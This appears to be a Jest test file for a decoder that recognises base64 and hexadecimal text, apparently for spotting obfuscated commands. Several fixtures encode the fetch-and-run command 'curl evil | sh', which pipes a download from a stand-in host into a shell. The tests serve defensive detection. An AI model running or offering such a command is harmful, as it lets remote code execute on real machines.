import { describe, expect, test } from '@jest/globals'
import { decodedText } from '../../src/domain/encoded-text.ts'

describe('decodedText reads', () => {
  test.each([
    ['base64', 'Y3VybCBldmlsIHwgc2g=', 'curl evil | sh'],
    ['base64 without padding', 'Y3VybCBldmlsIHwgc2g', 'curl evil | sh'],
    ['base64 for addresses', btoa('??>>~~~~').replaceAll('+', '-').replaceAll('/', '_'), '??>>~~~~'],
    ['hexadecimal', '6375726c206576696c', 'curl evil'],
    ['hexadecimal in capitals', '6375726C206576696C', 'curl evil'],
    ['several lines', btoa('a\tb\r\nc\n'), 'a\tb\r\nc\n'],
  ])('%s', (_form, value, text) => {
    expect(decodedText(value)).toBe(text)
  })
})

describe('decodedText reads nothing in', () => {
  test.each([
    ['nothing', ''],
    ['plain words', 'a plain text'],
    ['too short a text', btoa('abc')],
    ['bytes', btoa('\u0000\u0001\u0002abc')],
    ['other scripts', btoa(String.fromCharCode(0xc5, 0xbe, 0x6c, 0x75))],
    ['a digest', 'd41d8cd98f00b204e9800998ecf8427e'],
    ['base64 with a sign too many', 'Y3VybCBldmlsIHwgc2g===='],
    ['base64 with something in it', 'Y3Vyb!BldmlsIHwgc2g='],
    ['base64 cut in a character', 'Y3VybCBldmlsIHwgc2gab'],
  ])('%s', (_what, value) => {
    expect(decodedText(value)).toBeUndefined()
  })
})
